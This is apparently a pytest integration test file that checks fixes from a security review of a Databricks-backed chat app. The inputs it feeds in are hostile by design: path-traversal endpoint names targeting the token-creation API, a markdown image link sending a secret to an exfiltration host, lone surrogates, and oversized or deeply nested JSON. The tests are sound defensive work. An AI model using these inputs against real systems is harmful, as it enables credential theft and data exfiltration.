"""One test per finding of the security review (issue 9), each written to fail on the code before
its fix: endpoint names used as URL paths, lone surrogates desynchronising pooled connections,
unchecked imported settings and figures, and bad input ending in an unhandled error."""

from __future__ import annotations

import json
import uuid
from datetime import UTC, datetime, timedelta

import pytest
from sqlalchemy import text

from persistence.analytics import AnalyticsRepository
from persistence.database import build_engine, session_factory
from services.application import build_application
from services.chat_files import ChatFiles, InvalidImport
from services.config import Settings
from services.model_clients.port import GenerationParams, ModelError, PromptMessage
from services.views import User
from tests.integration.helpers import ALICE, BOB, chat_service, wait_for_reply
from tests.integration.test_serving_client import databricks_client

pytestmark = pytest.mark.integration

PATH_TRAVERSALS = [
    "../../api/2.0/token/create#",
    "..%2F..%2Fapi%2F2.0%2Ftoken%2Fcreate",
    "chat?x=1",
    "chat/../../api/2.0/clusters/list",
    "chat#fragment",
    "chat\x00",
    "",
    "a" * 64,
]


def export_document(endpoint: str | None = "chat", **overrides: object) -> dict:
    session = {"title": "Imported", "model_endpoint": endpoint, **overrides}
    return {
        "format": "lakebase-chat.session",
        "version": 1,
        "session": session,
        "messages": [
            {"seq": 1, "role": "user", "status": "complete", "content": "hello"},
            {"seq": 2, "role": "assistant", "status": "complete", "content": "hi", "prompt_tokens": 5},
        ],
    }


# -- 1. endpoint names never become URL paths -----------------------------------------------------


@pytest.mark.parametrize("name", PATH_TRAVERSALS)
def test_the_databricks_client_refuses_a_name_that_is_not_an_endpoint_name(fake_serving, name) -> None:
    fake_serving.requests.clear()
    with pytest.raises(ModelError):
        list(
            databricks_client(fake_serving).stream_chat(
                [PromptMessage("user", "q")], GenerationParams(name, 0, 8)
            )
        )
    assert [r for r in fake_serving.requests if r.method == "POST"] == []


def test_an_imported_chat_cannot_send_the_apps_token_to_another_workspace_path(
    fake_serving, app_env, clean_db
) -> None:
    app_env.setenv("DATABRICKS_HOST", fake_serving.url)
    app_env.setenv("DATABRICKS_TOKEN", fake_serving.token)
    app_env.setenv("LLM_ENDPOINT", "chat")
    app_env.setenv("MODEL_TITLES", "false")
    app = build_application(Settings(_env_file=None))
    try:
        app.endpoints.refresh()
        session_id = app.files.import_json(
            ALICE, json.dumps(export_document("../../api/2.0/token/create#")).encode()
        )
        # The import kept the chat and dropped the endpoint: the chat uses the default.
        assert app.chat.get_session(ALICE, session_id).model_endpoint is None
        # A name stored some other way (an older version, a direct write) is refused at turn time.
        with app.engine.begin() as connection:
            connection.execute(
                text("UPDATE chat_session SET model_endpoint = :bad WHERE id = :id"),
                {"bad": "../../api/2.0/token/create#", "id": session_id},
            )
        fake_serving.requests.clear()
        app.chat.submit_message(ALICE, session_id, "go", client_message_id=str(uuid.uuid4()))
        wait_for_reply(app.chat, ALICE, session_id)
        reply = app.chat.messages(ALICE, session_id)[-1]
        assert reply.status == "error"
        assert "not one this app may use" in (reply.error_message or "")
        assert not any("token" in r.path for r in fake_serving.requests)
        # Choosing it in the chat settings is refused too; a listed endpoint is accepted.
        with pytest.raises(Exception, match="not one this app may use"):
            app.chat.update_model_settings(
                ALICE, session_id, endpoint="embeddings", temperature=0.5, max_tokens=10, system_prompt=""
            )
        app.chat.update_model_settings(
            ALICE, session_id, endpoint="agent-endpoint", temperature=0.5, max_tokens=10, system_prompt=""
        )
    finally:
        app.close()


def test_llm_endpoint_for_databricks_must_be_an_endpoint_name() -> None:
    with pytest.raises(ValueError, match="LLM_ENDPOINT"):
        Settings(_env_file=None, databricks_host="https://example.com", llm_endpoint="../../api/2.0/x")
    # An OpenAI-compatible server's model names go in the request body and may hold other characters.
    assert Settings(_env_file=None, llm_base_url="http://localhost:1/v1", llm_endpoint="llama3.1:8b")


# -- 2. a lone surrogate never desynchronises a pooled connection -----------------------------------


def test_a_lone_surrogate_in_an_import_leaves_other_users_reads_working(database_url, clean_db) -> None:
    # One connection, shared by every user: the worst case.
    engine = build_engine(database_url, pool_size=1, max_overflow=0)
    try:
        files = ChatFiles(transactions=session_factory(engine))
        document = export_document(None)
        document["messages"][-1]["content"] = "broken \ud800 text"
        raw = json.dumps(document).encode()  # JSON carries the lone surrogate as \\ud800
        for _ in range(5):
            imported = files.import_json(BOB, raw)
        stored = files.export_json(BOB, imported)
        assert "broken \ufffd text" in stored
        failures = 0
        for _ in range(20):
            try:
                files.export_json(BOB, imported)
            except Exception:
                failures += 1
        assert failures == 0
    finally:
        engine.dispose()


def test_a_query_that_fails_before_reaching_the_server_discards_its_connection(database_url) -> None:
    engine = build_engine(database_url, pool_size=1, max_overflow=0)
    try:
        with pytest.raises(UnicodeEncodeError), engine.connect() as connection:
            connection.execute(text("SELECT :value"), {"value": "\ud800"})
        with engine.connect() as connection:
            assert connection.execute(text("SELECT 42")).scalar() == 42
    finally:
        engine.dispose()


# -- 5 (part). imported reply settings cannot crash a chat or reach the model -----------------------


@pytest.mark.parametrize(
    ("temperature", "max_tokens"), [(float("nan"), -5), (1e308, 10**6), (-1, 0), (2.5, 2**31)]
)
def test_imported_out_of_range_settings_fall_back_to_the_defaults(sessions, temperature, max_tokens) -> None:
    files = ChatFiles(transactions=sessions)
    document = export_document(None, temperature=temperature, max_tokens=max_tokens)
    raw = json.dumps(document, allow_nan=True).encode()
    session_id = files.import_json(ALICE, raw)
    service = chat_service(sessions)
    effective = service.effective_model_settings(service.get_session(ALICE, session_id))
    assert effective.temperature == 0.7
    assert effective.max_tokens == 1024


# -- 6 and 8. imports that are too big, too deep or out of range get a message ---------------------


def test_import_limits_and_bad_documents_are_refused_with_a_message(sessions) -> None:
    files = ChatFiles(transactions=sessions)
    deep = (
        b'{"format": "lakebase-chat.session", "version": 1, "session": '
        + b"[" * 100_000
        + b"]" * 100_000
        + b"}"
    )
    too_big = b" " * 5_000_001
    many = export_document(None)
    many["messages"] = [
        {"seq": i, "role": "user", "status": "complete", "content": "x"} for i in range(1, 5_002)
    ]
    for data, expected in [
        (deep, "nested too deeply"),
        (too_big, "MB"),
        (json.dumps(many).encode(), "5,000 can be imported"),
    ]:
        with pytest.raises(InvalidImport, match=expected):
            files.import_json(ALICE, data)
    with sessions() as db:
        assert db.execute(text("SELECT count(*) FROM chat_session")).scalar() == 0


def test_a_figure_beyond_a_database_integer_is_dropped_not_a_crash(sessions) -> None:
    files = ChatFiles(transactions=sessions)
    document = export_document(None)
    document["messages"][1].update(prompt_tokens=2**31, completion_tokens=-3, latency_ms=10**20)
    session_id = files.import_json(ALICE, json.dumps(document).encode())
    exported = json.loads(files.export_json(ALICE, session_id))
    assert exported["messages"][1]["prompt_tokens"] is None
    assert exported["messages"][1]["completion_tokens"] is None


# -- 7. imported rows do not count as usage -----------------------------------------------------------


def test_imported_messages_are_left_out_of_usage_figures(sessions) -> None:
    files = ChatFiles(transactions=sessions)
    document = export_document(None)
    for message in document["messages"]:
        message["created_at"] = datetime.now(UTC).isoformat()
    document["messages"][1]["completion_tokens"] = 1_000_000
    files.import_json(User("mallory@example.com"), json.dumps(document).encode())
    service = chat_service(sessions)
    session = service.create_session(ALICE)
    service.submit_message(ALICE, session.id, "real question", client_message_id="real-1")
    wait_for_reply(service, ALICE, session.id)
    end = datetime.now(UTC) + timedelta(minutes=1)
    with sessions() as db:
        totals = AnalyticsRepository(db).totals(end - timedelta(days=1), end)
    # Only Alice's real turn counts; Mallory's imported million tokens do not.
    assert (totals.user_messages, totals.active_users) == (1, 1)
    assert totals.completion_tokens < 1_000_000


def test_export_all_comes_in_bounded_parts_that_together_hold_every_chat(sessions) -> None:
    files = ChatFiles(transactions=sessions)
    ids = {str(files.import_json(ALICE, json.dumps(export_document(None)).encode())) for _ in range(5)}
    parts = [list(files.export_all_jsonl(ALICE, part=part, chats_per_part=2)) for part in range(3)]
    assert [len(part) for part in parts] == [2, 2, 1]
    exported = {json.loads(line)["session"]["id"] for part in parts for line in part}
    assert exported == ids
    assert files.count_exportable(ALICE) == 5


# -- 4 (titles) and 9 (what pages show) ---------------------------------------------------------------


def test_model_written_titles_keep_no_image_or_link_syntax() -> None:
    from services.titles import clean_model_title

    title = clean_model_title(
        "Title: ![chart](https://exfil.example.net/?q=secret) **Trip** [plan](https://x)"
    )
    assert "![" not in title
    assert "](" not in title
    assert "http" not in title
    assert title == "chart Trip plan"


def test_pages_name_no_database_host_and_no_model_server_url() -> None:
    from services.database import resolve_database_target
    from services.model_clients.openai_compatible import OpenAICompatibleClient, Timeouts

    settings = Settings(_env_file=None, database_url="postgresql://app:pw@db.internal.example:5432/chat")
    assert "db.internal" not in resolve_database_target(settings).description
    client = OpenAICompatibleClient(
        base_url="http://user:secret@llm.internal:11434/v1",
        api_key=None,
        timeouts=Timeouts(connect=1, first_token=1, total=1),
    )
    assert "llm.internal" not in client.label
    assert "secret" not in client.label
